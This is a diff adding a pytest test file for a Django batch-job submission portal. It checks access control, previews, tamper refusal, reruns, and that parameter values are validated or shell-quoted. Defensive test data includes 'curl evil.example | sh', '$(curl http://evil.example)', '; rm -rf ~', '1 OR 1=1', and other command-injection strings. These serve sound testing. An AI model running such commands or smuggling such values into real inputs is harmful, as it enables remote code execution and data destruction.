@@ -1,0 +1,423 @@
+"""The submission pages through Django's test client: who sees them, the generated form, the preview, the one and only
+submission a confirm makes, and bad input of every kind, refused in plain words or quoted so that it stays data."""
+
+import shlex
+import uuid
+
+import pytest
+from django.urls import reverse
+
+from batchsync import submit
+from portal.models import JobTemplate, JobTemplateVersion, Submission, SubmissionState
+from tests.portal.pages import text
+from tests.portal.submit_helpers import form_values, person, storage  # noqa: F401 (a fixture)
+
+pytestmark = pytest.mark.django_db
+
+# Every parameter type in one template, each value landing on the command line, so the argv can be checked exactly.
+ALL_TYPES_SPEC = {
+    "pool": {"pool_id": "demo-pool"},
+    "command_line": "printf '%s\\n' {text} {count} {ratio} {mode} {verbose} done",
+    "parameters": [
+        {"name": "text", "type": "string", "label": "Text", "max_length": 200_000},
+        {"name": "count", "type": "integer", "label": "Count", "default": 1, "min": 0, "max": 100},
+        {"name": "ratio", "type": "number", "label": "Ratio", "default": 0.5},
+        {"name": "mode", "type": "choice", "label": "Mode", "choices": ["fast", "slow"], "default": "fast"},
+        {"name": "verbose", "type": "boolean", "label": "Verbose", "flag": "--verbose"},
+    ],
+}
+
+
+@pytest.fixture
+def alice():
+    return person("alice")
+
+
+@pytest.fixture
+def as_alice(client, alice):
+    client.force_login(alice)
+    return client
+
+
+@pytest.fixture
+def all_types():
+    template = JobTemplate.objects.create(name="Every type", slug="every-type")
+    JobTemplateVersion.objects.create(template=template, number=1, spec=ALL_TYPES_SPEC)
+    return template
+
+
+@pytest.fixture
+def batch_gateway(localbatch, storage, settings, monkeypatch):
+    """localbatch as the portal's Batch account, with the examples' pool running a node; Azurite as its storage
+    (tasks save their stdout and stderr there when they end)."""
+    from batchsync.gateway import BatchGateway, PoolSpec
+    from tests.batchsync.test_sync import UBUNTU
+    from tests.localbatch.helpers import wait_for
+
+    settings.BATCH_ACCOUNT_URL = localbatch.endpoint
+    settings.BATCH_ACCOUNT_NAME = localbatch.account_name
+    settings.BATCH_ACCOUNT_KEY = localbatch.account_key
+    monkeypatch.delenv("BATCH_ACCOUNT_KEY", raising=False)
+    with BatchGateway(localbatch.endpoint, localbatch.account_name, localbatch.account_key) as gateway:
+        gateway.create_pool(PoolSpec(id="demo-pool", vm_size="standard_d2s_v3", image=UBUNTU,
+                                     target_dedicated_nodes=1))
+        wait_for(lambda: [n.state for n in gateway.list_nodes("demo-pool")] == ["idle"], timeout=30,
+                 message="an idle node")
+        yield gateway
+
+
+def version_of(slug):
+    return JobTemplate.objects.get(slug=slug).current_version()
+
+
+def preview(client, slug, **values):
+    data = {"template_version": version_of(slug).pk, **values}
+    return client.post(reverse("submit_form", args=[slug]), data)
+
+
+def confirm(client, slug, preview_response, **extra):
+    return client.post(reverse("submit_confirm", args=[slug]), {**form_values(preview_response), "submit": "1",
+                                                                 **extra})
+
+
+# --- who sees what ----------------------------------------------------------------------------------------
+
+
+def test_a_submitter_sees_the_active_templates_with_what_they_run_on(as_alice):
+    JobTemplate.objects.filter(slug="render-frames").update(is_active=False)
+
+    page = text(as_alice.get(reverse("submit_template_list")))
+
+    assert "Count words in each text file" in page and "Run a Python script with parameters" in page
+    assert "Render frames" not in page
+    assert "pool demo-pool" in page and "one task per file in “Text files”" in page
+    assert 'href="/submit/"' in page and "Submit work</a>" in page, "the navigation links here"
+
+
+@pytest.mark.parametrize("name", ["submit_template_list", "submission_list"])
+def test_a_viewer_is_refused_and_sees_no_submit_link(client, name):
+    client.force_login(person("victor", "Viewer"))
+
+    assert client.get(reverse(name)).status_code == 403
+    assert client.get(reverse("submit_form", args=["count-words"])).status_code == 403
+    assert "Submit work" not in client.get(reverse("job_list")).content.decode()
+
+
+def test_anonymous_people_are_sent_to_log_in(client):
+    for url in (reverse("submit_template_list"), reverse("submit_form", args=["count-words"]),
+                reverse("submission_list")):
+        response = client.get(url)
+        assert response.status_code == 302 and "/login/" in response["Location"]
+    assert client.post(reverse("submit_upload", args=["count-words"]), {}).status_code == 302
+
+
+def test_an_inactive_or_unknown_template_is_not_found(as_alice):
+    JobTemplate.objects.filter(slug="render-frames").update(is_active=False)
+
+    assert as_alice.get(reverse("submit_form", args=["render-frames"])).status_code == 404
+    assert as_alice.get(reverse("submit_form", args=["nope"])).status_code == 404
+
+
+# --- the form ---------------------------------------------------------------------------------------------
+
+
+def test_the_form_tells_the_browser_what_to_check(as_alice):
+    page = text(as_alice.get(reverse("submit_form", args=["python-script"])))
+
+    assert f'name="template_version" value="{version_of("python-script").pk}"' in page
+    assert 'name="count"' in page and 'min="1"' in page and 'max="1000"' in page and 'step="1"' in page
+    assert 'maxlength="100"' in page and 'value="run"' in page
+    assert '<option value="fast" selected>fast</option>' in page and "thorough" in page
+    assert "How many lines the script prints." in page
+    assert page.count(" required") >= 3
+    assert 'name="command_line"' not in page, "only engineers see the command line"
+    assert "<script" not in page.replace('<script src="', ""), "no inline script"
+
+
+def test_a_file_field_accepts_only_the_templates_kinds_and_posts_no_bytes(as_alice):
+    page = text(as_alice.get(reverse("submit_form", args=["count-words"])))
+
+    assert 'accept=".txt,.md,.csv"' in page and " multiple" in page
+    assert 'data-max-files="100"' in page and f'data-max-bytes="{100 * 1024 * 1024}"' in page
+    assert '<input type="file" id="file-texts"' in page and 'name="texts"' not in page
+    assert "/static/js/upload.js" in page
+
+
+def test_an_engineer_may_write_the_command_line(client):
+    client.force_login(person("erin", command_lines=True))
+
+    page = text(client.get(reverse("submit_form", args=["render-frames"])))
+
+    assert 'name="command_line"' in page and "echo rendering frame {frame}" in page
+
+
+# --- preview and submit -----------------------------------------------------------------------------------
+
+
+def test_the_preview_says_what_will_be_created_and_writes_nothing(as_alice):
+    page = text(preview(as_alice, "render-frames", frames="240", seconds_per_frame="0.5"))
+
+    assert "This creates 240 tasks on pool demo-pool." in page
+    assert "t00001" in page and "t00005" in page and "t00006" not in page and "235 more" in page
+    assert "/bin/sh -c &#x27;echo rendering frame 1; sleep 0.5; echo frame 1 done&#x27;" in page
+    assert not Submission.objects.exists()
+
+
+def test_submit_makes_one_submission_and_a_second_post_returns_it(as_alice, alice,
+                                                                  django_capture_on_commit_callbacks):
+    shown = preview(as_alice, "render-frames", frames="3", seconds_per_frame="0")
+
+    with django_capture_on_commit_callbacks() as callbacks:
+        first = confirm(as_alice, "render-frames", shown)
+        again = confirm(as_alice, "render-frames", shown)
+
+    submission = Submission.objects.get()
+    assert first.status_code == again.status_code == 302
+    assert first["Location"] == again["Location"] == reverse("submission_detail", args=[submission.public_id])
+    assert len(callbacks) == 1, "enqueued once"
+    assert (submission.submitted_by, submission.total_tasks, submission.parameters) == (
+        alice, 3, {"frames": 3, "seconds_per_frame": 0.0})
+
+
+def test_change_values_goes_back_to_the_form_with_the_values_kept(as_alice):
+    shown = preview(as_alice, "python-script", count="7", mode="thorough", label="mine")
+
+    page = text(as_alice.post(reverse("submit_confirm", args=["python-script"]),
+                              {**form_values(shown), "edit": "1"}))
+
+    assert 'value="7"' in page and 'value="mine"' in page and '<option value="thorough" selected>' in page
+    assert not Submission.objects.exists()
+
+
+def test_a_tampered_preview_is_refused_and_nothing_is_written(as_alice):
+    shown = preview(as_alice, "render-frames", frames="3")
+    values = form_values(shown)
+    payload = values["payload"]
+    tampered = payload[:10] + ("A" if payload[10] != "A" else "B") + payload[11:]
+
+    response = as_alice.post(reverse("submit_confirm", args=["render-frames"]), {"payload": tampered, "submit": 1},
+                             follow=True)
+
+    assert "That preview could not be used" in text(response)
+    assert not Submission.objects.exists()
+
+
+def test_someone_elses_preview_cannot_be_submitted(as_alice, client):
+    shown = preview(as_alice, "render-frames", frames="3")
+    client.force_login(person("bob"))
+
+    response = client.post(reverse("submit_confirm", args=["render-frames"]), {**form_values(shown), "submit": 1},
+                           follow=True)
+
+    assert "That preview could not be used" in text(response) and not Submission.objects.exists()
+
+
+@pytest.mark.parametrize("tampered", ["999999", "1 OR 1=1", "", "other-template"])
+def test_a_tampered_template_version_is_a_clear_error_and_nothing_is_written(as_alice, tampered):
+    if tampered == "other-template":
+        tampered = version_of("python-script").pk
+
+    page = text(as_alice.post(reverse("submit_form", args=["render-frames"]),
+                              {"template_version": tampered, "frames": "3"}))
+
+    assert "not offered any more, or the form was changed; nothing was submitted" in page
+    assert "This creates" not in page and not Submission.objects.exists()
+
+
+def test_an_outdated_template_version_is_a_clear_error(as_alice):
+    old = version_of("render-frames")
+    JobTemplateVersion.objects.create(template=old.template, number=2, spec=old.spec)
+
+    page = text(as_alice.post(reverse("submit_form", args=["render-frames"]),
+                              {"template_version": old.pk, "frames": "3"}))
+
+    assert "has changed since the form was opened; nothing was submitted" in page
+    assert not Submission.objects.exists()
+
+
+def test_a_command_line_posted_by_someone_who_may_not_write_one_is_refused(as_alice):
+    response = preview(as_alice, "render-frames", frames="3", command_line="curl evil.example | sh")
+
+    assert response.status_code == 403 and not Submission.objects.exists()
+
+
+def test_an_engineers_command_line_is_used(client):
+    client.force_login(person("erin", command_lines=True))
+
+    shown = preview(client, "render-frames", frames="2", seconds_per_frame="0", command_line="echo only {frame}")
+    confirm(client, "render-frames", shown)
+
+    submission = Submission.objects.get()
+    assert submission.command_line == "echo only {frame}"
+    assert [task.command_line for task in submit.expand(submission)] == ["/bin/sh -c 'echo only 1'",
+                                                                         "/bin/sh -c 'echo only 2'"]
+
+
+# --- bad input ----------------------------------------------------------------------------------------------
+
+INJECTIONS = ["; rm -rf ~", "$(curl http://evil.example)", "`id`", "a && b | c", "it's \"quoted\"",
+              "%COMSPEC% > /dev/null", "-rf", "x" * 100_000]
+
+
+@pytest.mark.parametrize("value", INJECTIONS)
+def test_a_string_stays_one_argument_whatever_it_holds(as_alice, all_types, value):
+    shown = preview(as_alice, "every-type", text=value, count="3", ratio="2.5", mode="slow", verbose="on")
+    assert "This creates 1 task" in text(shown)
+    confirm(as_alice, "every-type", shown)
+
+    task = next(submit.expand(Submission.objects.get()))
+    argv = shlex.split(task.command_line)
+    assert argv[:2] == ["/bin/sh", "-c"] and len(argv) == 3
+    # What the shell runs: printf with each value as exactly one word, the string exactly as typed.
+    assert shlex.split(argv[2]) == ["printf", "%s\\n", value, "3", "2.5", "slow", "--verbose", "done"]
+
+
+@pytest.mark.parametrize("field, value, words", [
+    ("text", "line one\nline two", "line breaks, tabs and other control characters are not allowed"),
+    ("text", "nul\x00", "control characters are not allowed"),
+    ("text", "x" * 200_001, "at most 200,000 characters"),
+    ("count", "3; rm -rf ~", "give a whole number"),
+    ("count", "$(id)", "give a whole number"),
+    ("count", "101", "at most 100"),
+    ("ratio", "`id`", "give a number"),
+    ("ratio", "1e999", "finite"),
+    ("mode", "fast; id", "choose one of: fast, slow"),
+    ("mode", "fast\nid", "choose one of"),
+])
+def test_a_value_that_does_not_fit_is_shown_next_to_its_field_and_nothing_is_written(as_alice, all_types, field,
+                                                                                      value, words):
+    page = text(preview(as_alice, "every-type", **{"text": "ok", "count": "1", "ratio": "1", "mode": "fast",
+                                                   field: value}))
+
+    assert words.lower() in page.replace("&#x27;", "'").lower()
+    assert "Some values need fixing; nothing was submitted." in page
+    assert "This creates" not in page and not Submission.objects.exists()
+
+
+def test_a_boolean_cannot_smuggle_a_value(as_alice, all_types):
+    shown = preview(as_alice, "every-type", text="ok", verbose="true; rm -rf ~")
+    confirm(as_alice, "every-type", shown)
+
+    script = shlex.split(next(submit.expand(Submission.objects.get())).command_line)[2]
+    assert shlex.split(script) == ["printf", "%s\\n", "ok", "1", "0.5", "fast", "--verbose", "done"]
+
+
+def test_quoted_values_run_as_data_on_localbatch(as_alice, all_types, batch_gateway):
+    """The proof that counts: the task really runs under /bin/sh, and prints every value exactly as typed."""
+    from tests.localbatch.helpers import wait_for
+
+    text_value = "it's $(touch /tmp/pwned) `id`; echo \"owned\" && exit 3 | cat > /tmp/x"
+    shown = preview(as_alice, "every-type", text=text_value, count="7", ratio="-1.5", mode="slow", verbose="on")
+    confirm(as_alice, "every-type", shown)
+    submission = Submission.objects.get()
+
+    assert submit.submit_submission(submission.pk) == SubmissionState.SUBMITTED
+    wait_for(lambda: batch_gateway.get_job(submission.job_id).state == "completed", timeout=60,
+             message="the job to end")
+    [task] = batch_gateway.list_tasks(submission.job_id)
+    assert task.exit_code == 0
+    stdout = batch_gateway.read_task_file(submission.job_id, task.id, "stdout.txt").decode()
+    assert stdout == f"{text_value}\n7\n-1.5\nslow\n--verbose\ndone\n"
+
+
+# --- re-run ---------------------------------------------------------------------------------------------------
+
+
+def test_a_rerun_starts_from_the_earlier_values_and_records_its_parent(as_alice):
+    confirm(as_alice, "python-script", preview(as_alice, "python-script", count="9", mode="thorough", label="first"))
+    parent = Submission.objects.get()
+
+    page = text(as_alice.get(reverse("submit_form", args=["python-script"]) + f"?rerun={parent.public_id}"))
+    assert 'value="9"' in page and 'value="first"' in page and f'value="{parent.public_id}"' in page
+
+    shown = preview(as_alice, "python-script", count="9", mode="thorough", label="second", rerun=parent.public_id)
+    confirm(as_alice, "python-script", shown)
+    child = Submission.objects.exclude(pk=parent.pk).get()
+    assert child.parent == parent and child.parameters["label"] == "second"
+
+
+def test_someone_elses_submission_cannot_be_rerun(as_alice, client):
+    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="2"))
+    parent = Submission.objects.get()
+    client.force_login(person("bob"))
+    url = reverse("submit_form", args=["render-frames"])
+
+    assert client.get(f"{url}?rerun={parent.public_id}").status_code == 404
+    assert client.get(f"{url}?rerun=not-a-uuid").status_code == 404
+    assert client.post(url, {"template_version": version_of("render-frames").pk, "frames": "2",
+                             "rerun": parent.public_id}).status_code == 404
+    assert Submission.objects.count() == 1
+
+
+# --- following a submission ---------------------------------------------------------------------------------
+
+
+def test_my_submissions_newest_first_and_only_mine(as_alice, client):
+    for frames in ("1", "2", "3"):
+        confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames=frames))
+    bob = person("bob")
+    client.force_login(bob)
+    confirm(client, "render-frames", preview(client, "render-frames", frames="4"))
+    client.force_login(Submission.objects.filter(total_tasks=1).get().submitted_by)
+
+    page = text(client.get(reverse("submission_list")))
+
+    assert page.count("0 / 3") == 1 and page.count("0 / 4") == 0
+    assert page.index("0 / 3") < page.index("0 / 2") < page.index("0 / 1")
+
+
+def test_the_detail_page_shows_progress_and_polls_until_final(as_alice):
+    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="10000"))
+    submission = Submission.objects.get()
+    Submission.objects.filter(pk=submission.pk).update(state=SubmissionState.ADDING_TASKS, tasks_added=6200)
+    url = reverse("submission_detail", args=[submission.public_id])
+
+    page = text(as_alice.get(url))
+    assert "6,200 / 10,000 tasks added" in page and 'hx-trigger="every 1s"' in page
+
+    partial = text(as_alice.get(url, headers={"HX-Request": "true", "HX-Target": "submission-status"}))
+    assert "6,200 / 10,000 tasks added" in partial and "<html" not in partial
+
+    Submission.objects.filter(pk=submission.pk).update(
+        state=SubmissionState.FAILED, error_message="Task t00042 is too large for Batch: one task may be at most "
+                                                    "1 MB.")
+    page = text(as_alice.get(url))
+    assert "Task t00042 is too large for Batch: one task may be at most 1 MB." in page
+    assert "hx-trigger" not in page, "a failed submission no longer changes"
+
+
+def test_the_detail_page_links_the_job_with_its_progress(as_alice):
+    from tests.factories import JobFactory
+
+    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="3"))
+    submission = Submission.objects.get()
+    Submission.objects.filter(pk=submission.pk).update(state=SubmissionState.SUBMITTED, tasks_added=3)
+    job = JobFactory(account=submission.account, job_id=submission.job_id, state="completed", task_completed=3,
+                     task_succeeded=3)
+
+    page = text(as_alice.get(reverse("submission_detail", args=[submission.public_id])))
+
+    assert f'href="{reverse("job_detail", args=[job.pk])}"' in page and "Completed 3/3" in page
+    assert "hx-trigger" not in page
+
+
+def test_someone_elses_submission_is_not_found(as_alice, client):
+    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="2"))
+    submission = Submission.objects.get()
+    client.force_login(person("bob"))
+
+    assert client.get(reverse("submission_detail", args=[submission.public_id])).status_code == 404
+    assert client.get(reverse("submission_detail", args=[uuid.uuid4()])).status_code == 404
+
+
+def test_an_operator_of_the_team_may_follow_it(as_alice, alice, client):
+    from portal.models import Team
+
+    team = Team.objects.create(name="render")
+    alice.teams.add(team)
+    confirm(as_alice, "render-frames", preview(as_alice, "render-frames", frames="2"))
+    operator = person("olga", "Operator")
+    operator.teams.add(team)
+    client.force_login(operator)
+
+    assert client.get(reverse("submission_detail", args=[Submission.objects.get().public_id])).status_code == 200
